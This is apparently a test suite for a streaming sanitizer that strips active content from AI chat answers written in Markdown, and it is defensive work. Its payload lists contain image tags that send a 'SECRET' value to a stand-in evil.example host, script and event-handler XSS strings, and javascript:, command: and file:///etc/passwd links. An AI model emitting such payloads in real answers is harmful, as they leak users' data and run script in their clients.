"""A chat answer's Markdown holds nothing active, however it comes, and is otherwise as it was."""

from __future__ import annotations

import re
import unicodedata
from typing import TYPE_CHECKING

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from neutral_support import LINKIFY, active, code, hosts, shown, split

from polypilot_prompts.neutral import LIMIT, Neutral, neutral
from polypilot_prompts.neutral_fences import RENDERED

if TYPE_CHECKING:
    import random

EVIL = "https://evil.example/p.png?d=SECRET"
PAYLOADS = (
    # images
    f"![x]({EVIL})",
    f'![x]( <{EVIL}> "t" )',
    f"![a [b] c]({EVIL})",
    f"! [x]({EVIL}) !\x00[x]({EVIL}) !\u202e[x]({EVIL})",
    f"[![x]({EVIL})](https://ok.example/)",
    f"[![x]({EVIL})](command:x)",
    f"![x][r]\n\n[r]: {EVIL}",
    f"![r]\n\n[r]: {EVIL} 'title'",
    f"![r][]\n\n> [R]:\n> {EVIL}",
    f"- ![r]\n\n  [r]: <{EVIL}>",
    f"![x](\n{EVIL}\n)",
    f"![x\ny]({EVIL})",
    f"\\![x]({EVIL}) \\\\![x]({EVIL})",
    f"**![x]({EVIL})** _![x]({EVIL})_ # ![x]({EVIL})",
    f"| a |\n|---|\n| ![x]({EVIL}) |",
    f"| `a | ![x]({EVIL}) ` |\n|---|---|\n| `b | ![x]({EVIL}) ` |",
    f"![`a`]({EVIL}) ![a`]({EVIL})`",
    f"`unclosed ![x]({EVIL})",
    f"``a` ![x]({EVIL}) `b``` ![x]({EVIL})",
    f"a `b\n\n![x]({EVIL}) `c",
    f"https://ok.example/\\![x]({EVIL})",
    f"www.ok.example`![x]({EVIL})`",
    f"&#33;[x]({EVIL}) ![x](&#104;ttps://evil.example)",
    "![[wiki.png]] ![[https://evil.example/p.png]]",
    f"![x]({EVIL}){{width=1}}",
    f"$ ` $ ![x]({EVIL}) `",
    f"$$\n```\n$$\n![x]({EVIL})",
    f"[^1]\n\n[^1]: ![x]({EVIL})\n\n    ![x]({EVIL})",
    # HTML
    f"<img src={EVIL}>",
    f"<IMG\nSRC={EVIL}\n>",
    f"a<img/src={EVIL}>b",
    "<svg onload=alert(1)>",
    "<script>alert(1)</script>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<!-- hidden --> <!---> <!x> <?php ?> <![CDATA[x]]>",
    f"<a href='{EVIL}'>x</a></a>",
    "<x-y\tz></x-y >",
    "\\\\<b>x</b> \\\\\\<b>",
    "https://ok.example/\\<b> https://ok.example/<b>",
    "[x](https://www.ok.example/)<b>",
    "<b\n>\n\n<b>",
    "> <b>\n<i>",
    "1. <b>\n   <table><tr><td>",
    "<style>@import url(https://evil.example)</style>",
    "<iframe src=//evil.example></iframe><base href=//evil.example/>",
    # fences that are drawn
    '```mermaid\ngraph TD; A-->B; click A href "https://evil.example"\n```',
    "~~~ Mermaid\nx\n~~~",
    "```{mermaid}\nx\n```\n```{.mermaid}\nx\n```",
    "```&#109;ermaid\nx\n```\n```\\mermaid\nx\n```",
    "- ```plantuml\n  !include https://evil.example\n  ```",
    "> ~~~math\n> \\href{javascript:x}{y}\n> ~~~",
    "```suggestion:-0+1\nx\n```\n```json:table\n{}\n```\n```language-mermaid\nx\n```",
    "```dot\nx\n```\n```dataviewjs\nx\n```\n```mermaid-js title=x\nx\n```",
    # links elsewhere
    "[x](command:workbench.action.terminal.new) [x](vscode://file/x)",
    "[x](javascript:alert(1)) [x]( JaVaScRiPt:alert(1) ) [x](<javascript:alert(1)>)",
    "[x](java&#115;cript:x) [x](javascript&colon;x) [x](java\\script:x) [x](%6Aavascript:x)",
    "[x](file:///etc/passwd) [x](data:text/html,<b>x) [x](\\\\host\\share) [x](//evil.example)",
    "[x](docs/a.md) [x](#anchor) [x](/etc/passwd) [x]()",
    "<javascript:alert(1)> <command:x> <file:///x> <mailto:a@b.example> <a@b.example>",
    "[r]: command:x\n[x][r] [r] [r][]",
    "[r]:\n   javascript:x\n   'title'\n\n[x][r]",
    "[a]: x\n[x\ny]: command:x\n\n[x\ny]",
    "ftp://evil.example/x file:///x vscode://x/y //evil.example/x _//evil.example/x",
    "https://ok.example/ftp://evil.example/x http://:ftp://evil.example",
    "[x\ny](command:x) [x](\ncommand:x) [a [b](https://ok.example) c](command:x)",
    "[x](https://ok.example@evil.example/) https://ok.example@evil.example/",
    "https://ok.example/\\[x](command:x)",
    # blocks that end where one does not look
    f"```\n\n~~~\n![x]({EVIL})\n```\n![x]({EVIL})",
    f"> ```\n![x]({EVIL})",
    f"- ```\n![x]({EVIL})",
    f"1. a\n2. ```\n  ![x]({EVIL})",
    f"a\n2. ```\n   ![x]({EVIL})\n",
    f"a\n    ![x]({EVIL})\n- b\n\n      ![x]({EVIL})",
    f"> a\n    ![x]({EVIL})",
    f"    x | ![x]({EVIL})\n|---|---|\n",
    f"```| a | b |\n|---|---|\n![x]({EVIL})",
    f"-\n\n  ```\n![x]({EVIL})\n  ```",
    f"```a`\n![x]({EVIL})",
    f"````\n```\n![x]({EVIL})\n````\n![x]({EVIL})",
    f"   ```\n    ```\n   ```\n![x]({EVIL})",
    f"\t```\n![x]({EVIL})\n>\t```\n![x]({EVIL})",
    f"-\t```\n  ![x]({EVIL})\n\t```",
    f"---\n```\n---\n![x]({EVIL})",
    f"a\r![x]({EVIL})\r\n```\r![x]({EVIL})\r```\r![x]({EVIL})",
    f"```\u2028![x]({EVIL})\u2029```\n![x]({EVIL})",
)
# What a renderer that knows more than CommonMark might still load.
_LENIENT = re.compile(r"(?<!\\)!\[(?!\\)|!\[\[|^\s*\[\^?[^\]\\]+\]:", re.MULTILINE)


def outside_code(text: str) -> str:
    """The text without what a renderer shows as code."""
    for each in sorted(code(text), key=len, reverse=True):
        for line in each.splitlines():
            text = text.replace(line, "") if line.strip() else text
    return text


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_active_comes_out_however_it_is_split(payload: str):
    out = neutral(payload)
    assert active(out) == []
    assert not _LENIENT.search(outside_code(out))
    for cut in range(len(payload) + 1):
        assert split((payload[:cut], payload[cut:])) == out
    assert split(payload) == out
    assert neutral(out) == out


def test_the_renderer_would_have_shown_it():
    """The check itself sees what it is there for."""
    assert sum(bool(active(payload)) for payload in PAYLOADS) >= 60
    assert active("![x](y)") == ["image: x"]
    assert active("[x](command:y)") == ["link: command:y"]
    assert active("[r]: x") == ["definition"]


def test_the_renderer_makes_links_of_bare_addresses():
    if not LINKIFY:
        pytest.skip("linkify-it-py is not installed")
    assert active("ftp://evil.example/x") == ["link: ftp://evil.example/x"]


_PARTS = (
    "![", "](", "[", "]", "(", ")", "<", ">", "`", "``", "```", "~~~", "\n", "\n\n", "> ", "- ",
    "1. ", "2. ", "    ", "  ", "\t", "   ", "javascript:", "https://h.co/", "http://", "command:",
    "x", " ", "\\", "|", "| a | b |\n|---|---|\n", "---\n", "===\n", "# ", "$", "$$", ":", "&#33;",
    "<img src=x>", "![a](https://e.co/x)", "[a](command:x)", "[r]: https://e.co\n", "<!--", "-->",
    "*", "!", "`<b>`", "![r]", "```py\n", "* * *\n", "+ ", "10) ", "\n```\n", "<https://a.co/c>",
    "//e.co/x", "ftp://e.co", "&lt;", "\u00a0", "- - -", "_", "=", "\r", "\u2028", "@", "www.q.co",
    "https://a.co@b.co/", "[a](https://x.co/z)", "/", "?", "\\href", "y" * 70, "    x | y\n",
    "```mermaid\n", "\x1b[1m", "\u202e",
)  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(_PARTS), max_size=40), st.randoms(use_true_random=False))
def test_hostile_mixtures(parts: list[str], chance: random.Random):
    text = "".join(parts)
    out = neutral(text)
    assert active(out) == []
    pieces: list[str] = []
    at = 0
    while at < len(text):
        end = at + chance.randint(1, 5)
        pieces.append(text[at:end])
        at = end
    assert split(pieces) == out
    assert neutral(out) == out


@settings(max_examples=100, deadline=None)
@given(st.text(), st.integers(1, 4))
def test_any_text(text: str, size: int):
    out = neutral(text)
    assert split(text[at : at + size] for at in range(0, len(text), size)) == out
    assert active(out) == []


@pytest.mark.nightly
@settings(max_examples=50_000, deadline=None)
@given(st.lists(st.sampled_from(_PARTS), max_size=60))
def test_many_hostile_mixtures(parts: list[str]):
    text = "".join(parts)
    out = neutral(text)
    assert active(out) == []
    assert split(text) == out


def test_every_code_point_of_a_control_is_taken_out():
    def forbidden(char: str) -> bool:
        controls = unicodedata.category(char) in {"Cc", "Cs"} and char not in "\t\n\r"
        bidi = (
            unicodedata.bidirectional(char)
            in {*("LRE", "RLE", "LRO", "RLO", "PDF", "LRI", "RLI", "FSI", "PDI")}
            or char in "\u061c\u200e\u200f"
        )
        return controls or bidi or 0xE0000 <= ord(char) <= 0xE007F

    every = [chr(code_point) for code_point in range(0x110000)]
    bad = [char for char in every if forbidden(char)]
    assert len(bad) > 2000
    for place in ("{}", "`{}`", "```\n{}\n```", "    {}", "[a{}](https://h.co)"):
        out = neutral(place.format("a" + "".join(bad) + "b"))
        assert not set(bad) & set(out)
    fine = "".join(char for char in every if not forbidden(char) and char not in "\r\u2028\u2029")
    kept = neutral(f"```\n{fine}\n```\n")
    assert kept == f"```\n{fine}\n```\n"


ORDINARY = """\
# Why `Foo<T>` is *slow* 👩‍💻

It holds when a < b and b <= c, `list[int]` or items[0]; 3 > 2, x << 2, <3, a->b, "don't!" and 50%.
See [the docs](https://docs.example.org/a_(b)) (docs.example.org) or https://example.org/x?a=[1]&b=2.

1. First, see [docs.example.org](https://docs.example.org/x "Title"):
   ```python path=src/a.py
   def f(x: dict[str, int]) -> None:
       print("![x](y) <b>")  # `a`
   ```
2. Then:

   - [ ] one `<div>` and ``a ` b``
   - [x] two ~~gone~~, **bold**, _it_

> Quoted: `![x](y)`
> ~~~
> <b>
> ~~~
> done

| name | type |
|------|-----:|
| `a`  | `Vec<T>` |

    indented <b> ![x](y)

Setext
------

***

```
![x](https://e.co) <script> [a]: b
```

Note: key: value, at 10:30, C:\\Users\\me, foo::bar, e@mail.example, @user, $5 and $HOME.
- Costs $x^2$ [1] and [a][b], (see [2]) <https://example.org/>.
   ~~~js
a
   ~~~"""


def test_an_ordinary_answer_is_not_touched():
    text = ORDINARY.replace("   ~~~js\na\n   ~~~", "").replace("a=[1]&", "a=1&")
    assert neutral(text) == text
    assert split(text) == text


@pytest.mark.parametrize(
    ("said", "shows"),
    [
        ("Vec<T> and <div>", "Vec<T> and <div>"),
        (f"![alt]({EVIL})", f"![alt]({EVIL})"),
        ("[x](command:y)", "[x](command:y)"),
        ("<!-- x -->", "<!-- x -->"),
        ("[r]: https://h.co", "[r]: https://h.co"),
        ("$$x$$ and \\href{a}{b}", "$$x$$ and \\href{a}{b}"),
        ("a `b", "a `b"),
        ("items = [1,", "items = [1,"),
        ("javascript:x and ftp://h", "javascript:x and ftp://h"),
        ("//h.co/x", "//h.co/x"),
        ("a `" + "``" * 80, "a `" + "``" * 80),
    ],
)
def test_what_is_escaped_reads_as_it_was_written(said: str, shows: str):
    assert shown(neutral(said)) == shows


@pytest.mark.parametrize(
    ("said", "comes"),
    [
        ("[x](https://h.co/a)", "[x](https://h.co/a) (h.co)"),
        ("[x](https://h.co/a).", "[x](https://h.co/a) (h.co)."),
        ("[x](HTTPS://H.co:80)", "[x](HTTPS://H.co:80) (h.co)"),
        ("[h.co](https://h.co/a)", "[h.co](https://h.co/a)"),
        ("[the H.co site](https://h.co/a)", "[the H.co site](https://h.co/a)"),
        ("[https://h.co/a](https://h.co/a)", "[https://h.co/a](https://h.co/a)"),
        ("[good.co](https://evil.co/)", "[good.co](https://evil.co/) (evil.co)"),
        ("[h.co.evil.co](https://h.co/)", "[h.co.evil.co](https://h.co/) (h.co)"),
        ("[good&#46;co](https://h.co)", "[good&#46;co](https://h.co) (h.co)"),
        ("[x](https://h.co) (h.co) y", "[x](https://h.co) (h.co) y"),
        ("[x](https://h.co) (h.com)", "[x](https://h.co) (h.co) (h.com)"),
        ("[x](https://münchen.de/a)", "[x](https://xn--mnchen-3ya.de/a) (xn--mnchen-3ya.de)"),
        ("[`a](b)`](https://h.co)", "[`a](b)`](https://h.co) (h.co)"),
        ("[x](https://good.co@evil.co/)", "\\[x\\](https://good.co @evil.co/)"),
        ("[x](https://good.co&#64;evil.co/)", "\\[x\\](https://good.co&#64;evil.co/)"),
        ("[x](https://good.co\\@evil.co/)", "\\[x\\](https://good.co \\@evil.co/)"),
        ("[x](https://stra\u00dfe.de)", "\\[x\\](https://stra\u00dfe.de)"),
        ("[x](https://.h.co)", "\\[x\\](https://.h.co)"),
        ("[x](https://" + "\u00fc" * 70 + ".de)", "\\[x\\](https://" + "\u00fc" * 70 + ".de)"),
        ("[x](<https://h.co)", "\\[x\\](\\<https://h.co)"),
        ("<https://good.co@evil.co>", "\\<https://good.co @evil.co>"),
        ("<https://.h.co>", "\\<https://.h.co>"),
        ("https://u:p@h.co/@x", "https://u:p @h.co/@x"),
    ],
)
def test_links_say_where_they_lead(said: str, comes: str):
    assert neutral(said) == comes
    assert split(said) == comes
    for url, behind in hosts(comes):
        host = re.split("[/:?#]", url.split("//")[1])[0]
        assert host.lower() in behind.lower().replace("münchen", "xn--mnchen-3ya")


@pytest.mark.parametrize(
    ("said", "comes"),
    [
        ("```mermaid\na<b>\n```\n", "```text\na<b>\n```\n"),
        ("``` mermaid theme=x\na\n```", "``` text theme=x\na\n```"),
        ("```py title=`x`\n", "\\`\\`\\`py title=`x`\n"),
        ("~~~py a`b<c>|d !![x]\n~~~\n", "~~~py abcd [x]\n~~~\n"),
        ("```ts app/[id]/page.ts\n", "```ts app/[id]/page.ts\n"),
        ("```C++ \n```\n", "```C++ \n```\n"),
        ("- ```\n  a\n```\nb\n", "- ```\n  a\n  ```\nb\n"),
        ("- ```\n  a\nb <i>\n", "- ```\n  a\n  ```\nb \\<i>\n"),
        ("> ```\n> a\n```", "> ```\n> a\n> ```"),
        ("  ```\n  a\n   b\n c\n  ```\n", "```\na\n b\nc\n```\n"),
        ("  ```\n\n \n  ```\n", "```\n\n\n```\n"),
        ("$`\\href{x}`$", "$\\`\\\\href{x}\\`$"),
        ("-    \n  ```\n  <b>\n  ```\n", "-    \n  ```\n  <b>\n  ```\n"),
        (" ```\n\ta\n   \n ```\n", "```\n   a\n  \n```\n"),
        ("   ```\n    ```\n   ```\n", "```\n    ```\n```\n"),
        ("---\nx: 1\n---\n", "\n---\nx: 1\n---\n"),
        ("+++", "\n+++"),
        ("a `x|<b>` b\n|---|\n", "a `x|<b>` b\n\\|---|\n"),
        ("|a|\n|-|\n2. `x|y`\n", "|a|\n|-|\n2\\. \\`x|y\\`\n"),
        ("a\n2. b\n", "a\n2. b\n"),
        ("a\r\nb\rc", "a\nb\nc"),
    ],
)
def test_blocks(said: str, comes: str):
    assert neutral(said) == comes
    assert split(said) == comes
    assert active(comes) == []


@pytest.mark.parametrize("language", sorted(RENDERED))
def test_what_renderers_draw_is_shown_as_code(language: str):
    for fence in ("```", "~~~"):
        assert neutral(f"{fence}{language.upper()}\nx\n{fence}\n") == f"{fence}text\nx\n{fence}\n"


_BEFORE = (
    "```py\nx",
    "```py",
    "- ```\n  x",
    "> ~~~\n> x\n",
    "a",
    "a\n",
    "- a\n\n",
    "1. a\n\n   - b",
    "> a",
    "a `b",
    "[x",
    "    code\n",
    "| a |\n|---|\n| b",
    "$x",
    "a\n\n",
    "- - a\n",
    "https://h.co/",
    "!",
)
_AFTER = (
    "```\n![x](y)",
    "    ![x](y)\n",
    "  ```\n  <b>\n![x](y)",
    "      ```\n      <b>\n  <b>",
    "> ```\n> <b>",
    "[x](command:y)",
    "`<b>` ` <b>",
    "](command:y)",
    "~~~\n<b>\n~~~\n<b>",
    "---\n```\n---\n<b>",
    "\t<b>",
    "   ~~~\n   <b>\n  <b>",
    "\n    <b>\n",
    "2. ```\n   <b>",
    "(y) <b>",
    "    x\n\n  ```\n<b>",
    "[x](y)",
)


@pytest.mark.parametrize("before", _BEFORE)
@pytest.mark.parametrize("after", _AFTER)
def test_texts_around_a_pause_are_harmless_alone_and_as_one(before: str, after: str):
    stream = Neutral()
    first = stream.feed(before) + stream.pause()
    assert stream.pause() == ""
    second = stream.feed(after) + stream.finish()
    for each in (first, second, first + second):
        assert active(each) == [], each


def test_a_pause_ends_what_is_open():
    stream = Neutral()
    assert stream.pause() == ""
    assert stream.feed("- ```py\n  x") + stream.pause() == "- ```py\n  x\n  ```\n\n"
    assert stream.feed("a `b") + stream.pause() == "a \\`b\n\n"
    assert stream.feed("c") + stream.finish() == "c"


def test_prose_is_not_held_back():
    words = "The cache misses, since two requests never share an entry; that is all. Fine!"
    stream = Neutral()
    stream.feed("T")
    for word in words[1:].split(" "):
        assert stream.feed(f"{word} ") == f"{word} "


@pytest.mark.parametrize(
    ("begun", "shown_at_once"),
    [("a `", "a "), ("a [", "a "), ("a <", "a "), ("a [b](https://", "a "), ("a \\", "a ")],
)
def test_what_is_not_decided_waits_but_not_for_long(begun: str, shown_at_once: str):
    stream = Neutral()
    assert stream.feed(begun) == shown_at_once
    held = stream.feed("")
    assert held == ""
    out = ""
    for fed in range(LIMIT + 10):
        out += stream.feed("b")
        if out:
            assert fed <= LIMIT + 2
            return
    pytest.fail("it is held for ever")


_UNITS = (
    "[", "]", "<", "`", "~", "![", "[a](https://", "`` ` ", "> ", "- ", "1. ", "\\", "$", "://",
    "#", "|", " ", "\t", "(", "[`", "https://x", "<https://", "@", "``` ", "- ```\n", "\n", "|-\n",
    "=",
)  # fmt: skip


@pytest.mark.parametrize("unit", _UNITS)
def test_long_runs_are_let_go_and_not_kept(unit: str):
    text = unit * (20 * LIMIT // len(unit))
    stream = Neutral()
    waiting, out = 0, [""]
    for at in range(0, len(text), 7):
        chunk = text[at : at + 7]
        made = stream.feed(chunk)
        out.append(made)
        waiting = 0 if made else waiting + len(chunk)
        # Blanks at a line's beginning say nothing and are dropped where there are too many.
        assert waiting <= 2 * LIMIT + 10 or not unit.strip()
    out.append(stream.finish())
    assert "".join(out) == neutral(text)
    assert active(neutral(text[: 2 * LIMIT])) == []
    assert stream.finish() == ""


@pytest.mark.parametrize(
    "text",
    [
        " " * 1500 + "a\n",
        ">" * 1500 + " <b>\n",
        "1. " * 600 + "<b>",
        "```" + "a" * 1500 + "\n<b>\n```\n",
        "`" * 150 + "\n<b>\n" + "`" * 150,
        "- " * 60 + "```\n<b>\n",
        "```\n```" + " " * 1500 + "\n<b>",
        "```\n```" + " " * 1500 + "<b>",
        "```\n" + "`" * 1500 + "<b>\n<b>\n",
        "[x](https://"
        + "a" * 1500
        + ") [x](https://a/"
        + "b" * 1500
        + ") <https://a/"
        + "b" * 1500,
        "[x](https://a/" + "b" * 990 + ")",
        "`" + "a" * 1500 + "` <b> `" + "a" * 995 + "<b>`",
        "https://" + "u" * 200 + "@" + "h" * 200 + "/\\<b>",
    ],
)
def test_what_is_too_long(text: str):
    out = neutral(text)
    assert active(out) == []
    assert split(text) == out
    for size in (2, 3, 997, 1001):
        assert split(text[at : at + size] for at in range(0, len(text), size)) == out
